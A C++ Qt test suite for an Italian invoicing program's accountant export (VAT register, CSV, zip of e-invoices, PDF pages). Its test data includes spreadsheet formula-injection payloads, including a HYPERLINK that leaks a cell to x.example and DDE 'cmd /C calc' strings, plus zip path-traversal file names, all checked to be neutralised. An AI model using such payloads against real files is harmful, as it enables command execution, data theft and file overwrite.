#include "DataDirectory.h"
#include "PdfText.h"
#include "TestEnvironment.h"
#include "UnexpectedWarnings.h"
#include "accountant/AccountantExport.h"
#include "accountant/SalesRegister.h"
#include "accountant/SalesRegisterCsv.h"
#include "backup/ZipArchive.h"
#include "business/BusinessFile.h"
#include "business/CompanyStore.h"
#include "business/ExportRegister.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QProcess>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QtTest>

using namespace quillio;
using namespace quillio::accountant;
using test::DataDirectory;

namespace {

einvoice::InvoiceRecord invoice(qint64 number, QDate date, double taxable, double rate, double vat,
                                double total, QList<double> lines = {})
{
    einvoice::InvoiceRecord record;
    record.ordNum = number;
    record.data = date;
    record.ragioneSociale = QStringLiteral("Cliente %1").arg(number);
    record.iva = rate;
    record.totale = taxable;
    record.totaleIva = vat;
    record.totaleFattura = total;
    if (lines.isEmpty())
        lines = {taxable};
    for (qsizetype i = 0; i < lines.size(); ++i)
        record.costo[i] = lines[i];
    return record;
}

// The CSV as Python's csv module reads it, row by row; nothing when python3 is missing.
std::optional<QList<QStringList>> readCsv(const QString& path)
{
    if (QStandardPaths::findExecutable(QStringLiteral("python3")).isEmpty())
        return std::nullopt;
    QProcess python;
    python.start(QStringLiteral("python3"),
                 {"-c",
                  "import csv, json, sys\n"
                  "with open(sys.argv[1], newline='', encoding='utf-8-sig') as f:\n"
                  "    print(json.dumps(list(csv.reader(f, delimiter=';', strict=True))))",
                  path});
    if (!python.waitForFinished(30000) || python.exitCode() != 0)
        return QList<QStringList>{{QString::fromUtf8(python.readAllStandardError())}};
    QList<QStringList> rows;
    for (const auto& row : QJsonDocument::fromJson(python.readAllStandardOutput()).array()) {
        QStringList fields;
        for (const auto& field : row.toArray())
            fields << field.toString();
        rows << fields;
    }
    return rows;
}

// A data directory of year 2026 with the settings pointing at it and the register's layout beside
// the program.
void prepareYear(const test::TestEnvironment& env, const DataDirectory& data)
{
    QDir().mkpath(env.paths.programDir() + "Report");
    QFile::copy(QStringLiteral(QUILLIO_LAYOUT_DIR "/RegistroIVA.qrl"),
                env.paths.programDir() + "Report/RegistroIVA.qrl");
    data.writeSettings(env.paths.programDir(), "2026");
    data.makeYear("2026");
}

} // namespace

Q_DECLARE_METATYPE(RegisterPeriod)

class TestAccountant : public QObject
{
    Q_OBJECT

private slots:
    void init() { quillio::test::failOnUnexpectedWarnings(); }
    void registerRoundsAndAddsRoundedFigures()
    {
        // 0.005 rounds away from zero, as the printed invoice shows it; the totals add the rounded figures.
        const QList<einvoice::InvoiceRecord> invoices = {
            invoice(1, QDate(2026, 1, 10), 10.005, 22, 2.2011, 12.2061, {10.005}),
            invoice(2, QDate(2026, 1, 20), 20.005, 22, 4.4011, 24.4061, {20.005}),
            invoice(3, QDate(2026, 2, 3), 100, 10, 10, 110),
        };
        const SalesRegister reg = SalesRegister::build(invoices, {2026, 1, 12});
        QCOMPARE(reg.rows().at(0).taxable, 1001);
        QCOMPARE(reg.rows().at(0).total, 1221);
        QCOMPARE(reg.monthTotals().value(1).taxable, 1001 + 2001);
        QCOMPARE(reg.monthTotals().value(1).total, 1221 + 2441);
        QCOMPARE(reg.rateTotals().value(2200).vat, 220 + 440);
        QCOMPARE(reg.rateTotals().value(1000).invoices, 1);
        QCOMPARE(reg.grandTotal().total, 1221 + 2441 + 11000);
        QVERIFY(reg.oddities().isEmpty());
    }

    void registerListsWhatTheAccountantWillAsk_data()
    {
        QTest::addColumn<QList<einvoice::InvoiceRecord>>("invoices");
        QTest::addColumn<RegisterPeriod>("period");
        QTest::addColumn<QStringList>("oddities");
        const QDate march(2026, 3, 1);
        QTest::newRow("continuous") << QList{invoice(1, march, 10, 22, 2.2, 12.2),
                                             invoice(2, march, 5, 22, 1.1, 6.1)}
                                    << RegisterPeriod{2026, 1, 12} << QStringList{};
        QTest::newRow("one deleted") << QList{invoice(1, march, 10, 22, 2.2, 12.2),
                                              invoice(3, march, 5, 22, 1.1, 6.1)}
                                     << RegisterPeriod{2026, 1, 12}
                                     << QStringList{"Manca la fattura numero 2."};
        QTest::newRow("several deleted, first ones too")
            << QList{invoice(3, march, 10, 22, 2.2, 12.2), invoice(7, march, 5, 22, 1.1, 6.1)}
            << RegisterPeriod{2026, 1, 12}
            << QStringList{"Mancano le fatture dal numero 1 al numero 2.",
                           "Mancano le fatture dal numero 4 al numero 6."};
        QTest::newRow("a gap belongs to the period of the invoice after it")
            << QList{invoice(1, QDate(2026, 1, 5), 10, 22, 2.2, 12.2),
                     invoice(3, QDate(2026, 4, 5), 5, 22, 1.1, 6.1)}
            << RegisterPeriod{2026, 1, 3} << QStringList{};
        QTest::newRow("totals not from the lines")
            << QList{invoice(1, march, 100, 22, 22, 122, {90})} << RegisterPeriod{2026, 1, 12}
            << QStringList{
                   "I totali della fattura 1 non corrispondono alle sue righe (imponibile dalle righe 90,00, "
                   "memorizzato 100,00)."};
        QTest::newRow("dated in another year")
            << QList{invoice(1, QDate(2025, 12, 31), 10, 22, 2.2, 12.2), invoice(2, march, 5, 22, 1.1, 6.1)}
            << RegisterPeriod{2026, 1, 12}
            << QStringList{"La fattura 1 è datata 31/12/2025, fuori dall'anno 2026: non è nel registro."};
    }

    void registerListsWhatTheAccountantWillAsk()
    {
        QFETCH(QList<einvoice::InvoiceRecord>, invoices);
        QFETCH(RegisterPeriod, period);
        QFETCH(QStringList, oddities);
        QStringList found;
        // The register is kept: a loop over a temporary's member would read freed memory.
        const SalesRegister reg = SalesRegister::build(invoices, period);
        for (const RegisterOddity& oddity : reg.oddities())
            found << oddity.text;
        QCOMPARE(found, oddities);
    }

    void csvCellsNeverBecomeFormulas_data()
    {
        QTest::addColumn<QString>("customer");
        QTest::addColumn<QString>("cell");
        QTest::newRow("equals") << "=HYPERLINK(\"http://x.example/?\"&A1;\"Clicca\")"
                                << "'=HYPERLINK(\"http://x.example/?\"&A1;\"Clicca\")";
        QTest::newRow("plus") << "+cmd|' /C calc'!A0"
                              << "'+cmd|' /C calc'!A0";
        QTest::newRow("at") << "@SUM(1+9)*cmd|' /C calc'!A0"
                            << "'@SUM(1+9)*cmd|' /C calc'!A0";
        QTest::newRow("minus") << "-2+3+cmd|' /C calc'!A0"
                               << "'-2+3+cmd|' /C calc'!A0";
        QTest::newRow("leading tab") << "\t=1+1"
                                     << "'\t=1+1";
        QTest::newRow("leading carriage return") << "\r=1+1"
                                                 << "'\r=1+1";
        QTest::newRow("formula characters inside") << "Rossi = Bianchi - S.n.c. @ Roma"
                                                   << "Rossi = Bianchi - S.n.c. @ Roma";
    }

    void csvCellsNeverBecomeFormulas()
    {
        QFETCH(QString, customer);
        QFETCH(QString, cell);
        // A credit note: its amounts are negative and must stay numbers.
        einvoice::InvoiceRecord record = invoice(1, QDate(2026, 1, 5), -12.5, 22, -2.75, -15.25);
        record.ragioneSociale = customer;
        record.pIva = customer;
        record.stato = QStringLiteral("Emessa");
        const SalesRegister reg = SalesRegister::build({record}, {2026, 1, 12}, {{1, customer}});
        QTemporaryDir dir;
        const QString path = dir.filePath("Fatture-2026.csv");
        QFile file(path);
        QVERIFY(file.open(QIODevice::WriteOnly));
        file.write(SalesRegisterCsv::of(reg));
        file.close();
        const std::optional<QList<QStringList>> rows = readCsv(path);
        if (!rows)
            QSKIP("python3 is not installed: the CSV cannot be read back by a CSV reader");
        QCOMPARE(rows->size(), 2);
        QCOMPARE(rows->at(1), (QStringList{"1", "05/01/2026", cell, cell, "", "-12,50", "22", "-2,75",
                                           "-15,25", "Emessa", cell}));
    }

    void zipEntriesAreSingleNames_data()
    {
        QTest::addColumn<QStringList>("stored");
        QTest::addColumn<QStringList>("entries");
        const QString second = QStringLiteral("IT01234567897_00002.xml");
        QTest::newRow("plain names kept") << QStringList{"IT01234567897_00001.xml", second}
                                          << QStringList{"IT01234567897_00001.xml", second};
        QTest::newRow("climbing out") << QStringList{"../../Esecuzione automatica/avvia.xml", second}
                                      << QStringList{"Fattura-2026-1.xml", second};
        QTest::newRow("a subfolder") << QStringList{"a/b.xml", second}
                                     << QStringList{"Fattura-2026-1.xml", second};
        QTest::newRow("absolute") << QStringList{"/tmp/x.xml", second}
                                  << QStringList{"Fattura-2026-1.xml", second};
        QTest::newRow("backslashes") << QStringList{"..\\..\\x.xml", second}
                                     << QStringList{"Fattura-2026-1.xml", second};
        QTest::newRow("dot dot") << QStringList{"..", second} << QStringList{"Fattura-2026-1.xml", second};
        QTest::newRow("empty") << QStringList{"", second} << QStringList{"Fattura-2026-1.xml", second};
        QTest::newRow("one name twice, in another case")
            << QStringList{"fattura.xml", "FATTURA.XML"} << QStringList{"fattura.xml", "Fattura-2026-2.xml"};
        QTest::newRow("the made name already taken")
            << QStringList{"../x.xml", "Fattura-2026-1.xml"}
            << QStringList{"Fattura-2026-1-2.xml", "Fattura-2026-1.xml"};
    }

    void zipEntriesAreSingleNames()
    {
        QFETCH(QStringList, stored);
        QFETCH(QStringList, entries);
        test::TestEnvironment env;
        QTemporaryDir root;
        const DataDirectory data(root.path());
        prepareYear(env, data);
        {
            business::BusinessFile company(data.path());
            for (qint64 number = 1; number <= 2; ++number) {
                data.addInvoice("2026",
                                {QDate(2026, 1, 10), QStringLiteral("Cliente %1").arg(number), {}, {}, {10}});
                business::ExportRegister(company).record(
                    {2026, number, QStringLiteral("0000%1").arg(number), stored[number - 1],
                     QDateTime::currentDateTime(), "00",
                     QByteArray("<Fattura numero=\"") + QByteArray::number(number) + "\"/>"});
            }
        }
        const QString folder = QDir(root.path()).filePath("commercialista/mese");
        const AccountantExport::Result result = AccountantExport::run({2026, 1, 1}, folder);

        const backup::ZipArchive zip(folder + "/Fatture-elettroniche-2026.zip",
                                     backup::ZipArchive::Mode::Read);
        QCOMPARE(zip.entryNames(), entries);
        for (qsizetype i = 0; i < entries.size(); ++i)
            QCOMPARE(zip.read(entries[i], 1000),
                     QByteArray("<Fattura numero=\"") + QByteArray::number(i + 1) + "\"/>");
        // Every renamed file is reported, and the register's rows name the file as it is in the zip.
        qsizetype renamed = 0;
        for (qsizetype i = 0; i < entries.size(); ++i)
            renamed += stored[i] != entries[i];
        QStringList reported;
        for (const RegisterOddity& oddity : result.oddities)
            if (oddity.kind == RegisterOddity::Kind::RenamedElectronicFile)
                reported << oddity.text;
        QCOMPARE(reported.size(), renamed);
        for (const QString& text : reported)
            QVERIFY2(text.contains("nel file zip si chiama \"Fattura-2026-"), qPrintable(text));
        const std::optional<QList<QStringList>> rows = readCsv(folder + "/Fatture-2026.csv");
        if (!rows)
            QSKIP("python3 is not installed: the CSV cannot be read back by a CSV reader");
        QCOMPARE(rows->size(), 3);
        QCOMPARE(rows->at(1).last(), entries[0]);
        QCOMPARE(rows->at(2).last(), entries[1]);
    }

    void exportWritesCsvRegisterAndElectronicInvoices()
    {
        test::TestEnvironment env;
        QTemporaryDir root;
        const DataDirectory data(root.path());
        prepareYear(env, data);
        data.addInvoice("2026",
                        {QDate(2026, 1, 12), "Bar \"Il Sole\"; di Rossi", "01234567897", {}, {1000.005}});
        const qint64 deleted = data.addInvoice("2026", {QDate(2026, 1, 20), "Da cancellare", {}, {}, {1}});
        data.addInvoice("2026", {QDate(2026, 2, 3),
                                 "Società Agricola Città di Castello",
                                 {},
                                 "RSSMRA80A01H501U",
                                 {250, 49.5},
                                 10});
        data.addInvoice("2026", {QDate(2026, 3, 9), "Fuori periodo", {}, {}, {5}});
        data.removeRecord("2026", "Fatture.DB", deleted);
        {
            business::BusinessFile company(data.path());
            einvoice::CompanyData seller;
            seller.denominazione = QStringLiteral("Ferramenta Esempio S.r.l.");
            seller.partitaIva = QStringLiteral("01234567897");
            business::CompanyStore(company).setCompany(seller);
            business::ExportRegister(company).record({2026, 1, "00001", "IT01234567897_00001.xml",
                                                      QDateTime::currentDateTime(), "00",
                                                      "<FatturaElettronica/>"});
        }

        const QString folder = QDir(root.path()).filePath("commercialista");
        const AccountantExport::Result result = AccountantExport::run({2026, 1, 2}, folder);
        QCOMPARE(result.written, (QStringList{folder + "/Fatture-2026.csv", folder + "/Registro-IVA-2026.pdf",
                                              folder + "/Fatture-elettroniche-2026.zip"}));
        QCOMPARE(result.invoices, 2);
        QCOMPARE(result.oddities.size(), 1);
        QCOMPARE(result.oddities[0].text, QStringLiteral("Manca la fattura numero 2."));

        QFile csvFile(result.written[0]);
        QVERIFY(csvFile.open(QIODevice::ReadOnly));
        QVERIFY(csvFile.readAll().startsWith("\xEF\xBB\xBFNumero;Data;"));
        const std::optional<QList<QStringList>> rows = readCsv(result.written[0]);
        if (!rows)
            QSKIP("python3 is not installed: the CSV cannot be read back by a CSV reader");
        QCOMPARE(rows->size(), 3);
        QCOMPARE(rows->at(1),
                 (QStringList{"1", "12/01/2026", "Bar \"Il Sole\"; di Rossi", "01234567897", "", "1000,01",
                              "22", "220,00", "1220,01", "Emessa", "IT01234567897_00001.xml"}));
        QCOMPARE(rows->at(2),
                 (QStringList{"3", "03/02/2026", "Società Agricola Città di Castello", "", "RSSMRA80A01H501U",
                              "299,50", "10", "29,95", "329,45", "Emessa", ""}));

        const backup::ZipArchive zip(result.written[2], backup::ZipArchive::Mode::Read);
        QCOMPARE(zip.entryNames(), QStringList{"IT01234567897_00001.xml"});
        QCOMPARE(zip.read("IT01234567897_00001.xml", 1000), QByteArray("<FatturaElettronica/>"));

        const QString text = report::test::pdfText(result.written[1]);
        if (text.isNull())
            QSKIP("pdftotext is not installed: the register cannot be read back");
        for (const char* expected :
             {"Ferramenta Esempio S.r.l.", "gennaio – febbraio 2026", "Totali per mese",
              "Totali per aliquota", "Aliquota 22%", "Aliquota 10%", "Totale del periodo", "1.549,46",
              "Manca la fattura numero 2.", "Pagina 1 di 1"})
            QVERIFY2(text.contains(QString::fromUtf8(expected)),
                     qPrintable(QString::fromUtf8(expected) + " not in:\n" + text));
        QVERIFY(!text.contains("Fuori periodo"));
        // The month lines carry the month's own sums.
        QVERIFY2(text.contains(QRegularExpression("gennaio\\s+1 fattura\\s+1.000,01\\s+220,00\\s+1.220,01")),
                 qPrintable(text));
        QVERIFY2(text.contains(QRegularExpression("febbraio\\s+1 fattura\\s+299,50\\s+29,95\\s+329,45")),
                 qPrintable(text));
    }

    void commandLineWritesTheExport()
    {
        test::TestEnvironment env;
        QTemporaryDir root;
        const DataDirectory data(QDir(root.path()).filePath("dati"));
        QDir().mkpath(data.path());
        data.makeYear("2026");
        data.addInvoice("2026", {QDate(2026, 1, 12), "=HYPERLINK(\"http://x.example\")", {}, {}, {100}});
        const qint64 deleted = data.addInvoice("2026", {QDate(2026, 1, 20), "Da cancellare", {}, {}, {1}});
        data.addInvoice(
            "2026", {QDate(2026, 2, 3), "Rossi S.r.l.", {}, {}, {-12.5}, 22, false, -12.5, -2.75, -15.25});
        data.addInvoice("2026", {QDate(2026, 3, 9), "Fuori periodo", {}, {}, {5}});
        data.removeRecord("2026", "Fatture.DB", deleted);

        // A scheduled job: no settings at all, so the defaults and the layout beside the tool.
        QTemporaryDir config;
        const auto run = [&](const QStringList& arguments, QString* output) {
            QProcess tool;
            QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
            environment.insert("XDG_CONFIG_HOME", config.path());
            environment.insert("HOME", config.path());
            environment.remove("QT_QPA_PLATFORM");
            tool.setProcessEnvironment(environment);
            tool.start(QStringLiteral(QUILLIO_ARCHIVE_TOOL), QStringList{"accountant"} + arguments);
            if (!tool.waitForFinished(60000))
                return -1;
            *output = QString::fromUtf8(tool.readAllStandardOutput() + tool.readAllStandardError());
            return tool.exitCode();
        };
        const QString folder = QDir(root.path()).filePath("commercialista");
        QString output;
        const int exitCode =
            run({"--year", "2026", "--from", "1", "--to", "2", data.path(), folder}, &output);
        QVERIFY2(exitCode == 0, qPrintable(output));
        for (const char* expected : {"Fatture-2026.csv", "Registro-IVA-2026.pdf", "2 fatture esportate",
                                     "da verificare: Manca la fattura numero 2."})
            QVERIFY2(output.contains(QString::fromUtf8(expected)), qPrintable(output));
        QVERIFY(QFileInfo(folder + "/Registro-IVA-2026.pdf").size() > 0);
        const std::optional<QList<QStringList>> rows = readCsv(folder + "/Fatture-2026.csv");
        if (!rows)
            QSKIP("python3 is not installed: the CSV cannot be read back by a CSV reader");
        QCOMPARE(rows->size(), 3);
        QCOMPARE(rows->at(1).mid(0, 6),
                 (QStringList{"1", "12/01/2026", "'=HYPERLINK(\"http://x.example\")", "", "", "100,00"}));
        QCOMPARE(rows->at(2).mid(0, 9),
                 (QStringList{"3", "03/02/2026", "Rossi S.r.l.", "", "", "-12,50", "22", "-2,75", "-15,25"}));

        QCOMPARE(run({"--year", "2025", data.path(), folder}, &output), 1);
        QVERIFY2(output.contains("L'anno 2025 non ha un archivio"), qPrintable(output));
        QCOMPARE(run({"--year", "2026", "--from", "5", "--to", "3", data.path(), folder}, &output), 2);
        QVERIFY2(output.contains("Il mese iniziale viene dopo quello finale."), qPrintable(output));
        QCOMPARE(run({"--year", "2026", "--to", "13", data.path(), folder}, &output), 2);
        QVERIFY2(output.contains("I mesi vanno da 1 a 12"), qPrintable(output));
        QCOMPARE(run({"--year", "duemila", data.path(), folder}, &output), 2);
        QVERIFY2(output.contains("uso: accountant --year AAAA"), qPrintable(output));
        QCOMPARE(run({data.path(), folder}, &output), 2);
    }

    void longRegisterContinuesOnNumberedPages()
    {
        test::TestEnvironment env;
        QTemporaryDir root;
        const DataDirectory data(root.path());
        prepareYear(env, data);
        for (int i = 1; i <= 70; ++i)
            data.addInvoice("2026",
                            {QDate(2026, 1 + i % 12, 1), QStringLiteral("Cliente %1").arg(i), {}, {}, {10}});
        const AccountantExport::Result result = AccountantExport::run({2026, 1, 12}, root.path());
        const QString text = report::test::pdfText(result.written[1]);
        if (text.isNull())
            QSKIP("pdftotext is not installed: the register cannot be read back");
        const QStringList pages = text.split(u'\f', Qt::SkipEmptyParts);
        // 70 invoices and 22 lines of totals and notes, 31 lines a page.
        QCOMPARE(pages.size(), 3);
        QVERIFY(pages[0].contains("Pagina 1 di 3") && pages[2].contains("Pagina 3 di 3"));
        // Every page repeats the headings; the last invoice and the totals follow on the later pages.
        for (const QString& page : pages)
            QVERIFY(page.contains("Registro IVA delle vendite") && page.contains("Imponibile"));
        QVERIFY(!pages[1].contains("Cliente 70") && pages[2].contains("Cliente 70"));
        QVERIFY(text.contains(QRegularExpression("Totale del periodo\\s+70 fatture\\s+700,00")));
    }
};

QTEST_MAIN(TestAccountant)
#include "tst_accountant.moc"
